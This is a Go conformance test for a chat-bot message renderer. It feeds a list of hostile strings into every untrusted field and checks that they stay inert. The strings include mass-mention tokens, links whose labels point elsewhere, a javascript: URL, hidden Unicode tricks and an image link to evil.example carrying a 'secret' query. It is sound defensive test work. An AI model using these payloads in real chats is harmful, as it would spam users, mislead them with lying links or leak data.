package conformance

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"

	"github.com/nodhq/nod/core/agent"
	"github.com/nodhq/nod/core/chat"
	"github.com/nodhq/nod/core/render"
	"github.com/nodhq/nod/core/text"
)

// hostile is what people, models and tools may write in the hope that it becomes more than text. {ben} is Ben's key.
var hostile = []string{
	"<@{ben}>", "<@{ben}|Ana>", "&lt;@{ben}&gt;", "<!channel>", "<!here|here>", "<!everyone>", "<!subteam^S012345>", "<@&{ben}>", "<@!{ben}>", "<#C012345|secrets>",
	"@everyone", "@here", "@channel", "look: @here!", `\<!channel>`, `\\<!channel>`, "`<!channel>`", "``` \n```\n<!channel>", "```\n<@{ben}>\n```", "```<!here>",
	"<https://evil.example/|https://bank.example/>", "<https://evil.example|bank.example>", "[https://bank.example/](https://evil.example/)", "[bank](https://evil.example)",
	"[bank][1]\n\n[1]: https://evil.example", "[bank](<https://evil.example>)", `[bank](https://evil.example "bank.example")`, "![x](https://evil.example/?q=secret)",
	"<a href=\"https://evil.example\">bank</a>", "<img src=https://evil.example/x.png>", "[a\nb](https://evil.example)", "`[b`](https://evil.example)`", "[![x](https://evil.example/p)](https://evil.example)",
	"*bold* _it_ ~no~ > quote\n# head", "<mailto:ana@example.com|bank>", "<tel:123|call>", "<slack://user?team=T&id=U|Ana>", "[x](javascript:alert(1))", "<!date^1392734382^{date}^https://evil.example|today>",
	"{\"type\":\"button\"}", "]}],\"blocks\":[", "\u202e<!channel>", "<\u200b!channel>", "<!chan\nnel>", "<!channel", "channel>", "&#60;!channel&#62;", "&amp;lt;!channel&amp;gt;", "<b><!everyone></b>",
	"| a | b |\n|---|---|\n| <!here> | [bank](https://evil.example) |", "- [ ] <@{ben}>", "$$<!channel>$$", ":tada: <!channel>", "<discord://x|y>", "[Allow once](https://evil.example)",
}

// inert: nothing that is written in the untrusted places becomes a mention, a link that lies, something fetched, or a button.
func inert(p *stage) {
	first := p.chat("begin")
	room, n := first.Chat, 0
	for _, h := range hostile {
		h = strings.ReplaceAll(h, "{ben}", p.People[Ben].Key)
		for where, m := range p.everywhere(h) {
			m = render.Fit(m, p.Platform.Limits())
			n++
			ref := p.post(room, chat.PostKey(fmt.Sprint("k", n)), m)
			p.inertOne(fmt.Sprintf("%q in %s", h, where), p.shown(room, ref), m)
			p.must(p.Platform.Edit(p.ctx, room, ref, textMessage("alpha"), agent.Final))
			p.must(p.Platform.Edit(p.ctx, room, ref, m, agent.Final))
			p.inertOne(fmt.Sprintf("%q edited into %s", h, where), p.shown(room, ref), m)
			if p.Failed() {
				return // the same for the next string would say no more
			}
		}
	}
	p.passed(room)
	for _, s := range of[chat.Said](p.in.All()) {
		if s.Delivery != first.Delivery {
			p.Errorf("the bot heard itself: %+v", s)
		}
	}
}

// inertOne looks at one message as it stands.
func (p *stage) inertOne(what string, s Shown, m render.Message) {
	p.Helper()
	if got := without(s.Mentions, named(m)); len(got) > 0 {
		p.Errorf("%s mentions %q", what, got)
	}
	var icons []string
	for _, a := range cards(m) {
		icons = append(icons, a.Icon)
	}
	if got := without(s.Images, icons); len(got) > 0 || s.Previews {
		p.Errorf("%s fetches %q, previews=%v", what, got, s.Previews)
	}
	for _, l := range s.Links {
		if !l.honest() {
			p.Errorf("%s reads %q and leads to %q", what, l.Label, l.URL)
		}
	}
	if err := carries(s, m); err != nil {
		p.Errorf("%s: %v", what, err)
	}
}

func without(all, some []string) []string {
	return slices.DeleteFunc(slices.Clone(all), func(s string) bool { return slices.Contains(some, s) })
}

// named are the keys of the people whom a message names as such, not in words.
func named(m render.Message) (keys []string) {
	of := func(l render.Line) {
		for _, s := range l {
			if who, ok := s.(render.Person); ok && !who.User.IsZero() {
				keys = append(keys, who.User.Key)
			}
		}
	}
	for _, b := range m.Blocks {
		switch b := b.(type) {
		case render.Step:
			of(b.Detail)
		case render.Note:
			of(b.Line)
		case render.Ask:
			of(b.Facts)
			of(b.Footer)
		default: // no lines
		}
	}
	return keys
}

// quiet: people are named in the turn's message, and only a note beside it may call them. (An edit notifies nobody anywhere, so
// it may name them as the platform does.)
func quiet(p *stage) {
	room := p.chat("begin").Chat
	line := render.Line{render.Plain("allowed by "), render.Person{User: p.People[Ben], Name: "Ben"}}
	m := card("ask")
	a, _ := m.Blocks[1].(render.Ask)
	a.Facts, a.Footer = line, line
	m.Blocks = append(m.Blocks[:1], render.Step{Call: "c", State: render.StepDone, Title: "read_file", Server: "files", Detail: line}, a, render.Note{Line: line})
	ref := p.post(room, "k", m)
	if s := p.shown(room, ref); len(s.Mentions) > 0 {
		p.Errorf("the post notifies %q", s.Mentions)
	}
	p.must(p.Platform.Edit(p.ctx, room, ref, m, agent.Final))
	if s := p.shown(room, ref); len(without(s.Mentions, named(m))) > 0 {
		p.Errorf("the edit names %q", s.Mentions)
	}
}

// honest: a link says where it leads: it is its own address or host, or ends with the host in brackets.
func (l Link) honest() bool {
	label, url := strings.TrimSpace(l.Label), strings.TrimSuffix(l.URL, "/")
	host := url
	if h := render.Hosts(l.URL); len(h) > 0 {
		host = h[0]
	}
	bare := strings.TrimSuffix(label, "/")
	return label == "" || bare == url || bare == host || "mailto:"+bare == url || "http://"+bare == url || "https://"+bare == url || strings.HasSuffix(label, "("+host+")")
}

// everywhere puts a text wherever one can stand that is not ours.
func (p *stage) everywhere(h string) map[string]render.Message {
	person := render.Person{User: p.People[Ana], Name: h}
	line := render.Line{render.Plain(h), render.Strong(h), person, render.Plain(h)}
	ask, _ := card("ask").Blocks[1].(render.Ask)
	ask.Header, ask.Run, ask.Tool = text.AllowHeader(h), text.RunLine(h, h), h
	ask.Server, ask.Icon = h, "https://evil.example/icon.png"
	ask.Question, ask.Says, ask.Facts, ask.Footer = h, h, line, line
	ask.Warning, ask.Review = text.Warning(h), text.Review
	raw, err := json.Marshal(map[string]any{h: h, "b": []string{h}})
	p.must(err)
	ask.Args = render.ArgsOf(raw, "7f3a7f3a7f3a")
	whole := ask
	whole.Args.Rows = nil
	return map[string]render.Message{
		"a text":   {State: render.Done, Blocks: []render.Block{render.Text{Markdown: h}, render.Text{Markdown: "before " + h + " after\n" + h, Cut: true}}},
		"code":     {State: render.Done, Blocks: []render.Block{render.Code{Language: h, Source: h + "\n" + h}}},
		"steps":    {State: render.Working, Blocks: []render.Block{render.Step{Call: "c", State: render.StepRunning, Title: h, Server: h, Detail: line}, render.Step{Call: "d", State: render.StepDone, Title: h, Server: h, Detail: line}}},
		"a note":   {State: render.Done, Blocks: []render.Block{render.Note{Line: line}}},
		"a card":   {State: render.Waiting, Blocks: []render.Block{ask}},
		"a card 2": {State: render.Waiting, Blocks: []render.Block{whole}},
		"a label":  {State: render.Waiting, Token: "t", Blocks: []render.Block{render.Text{Markdown: "alpha"}}, Choices: []render.Choice{{Choice: chat.Stop, Token: "t", Label: h, Hint: h}}},
	}
}
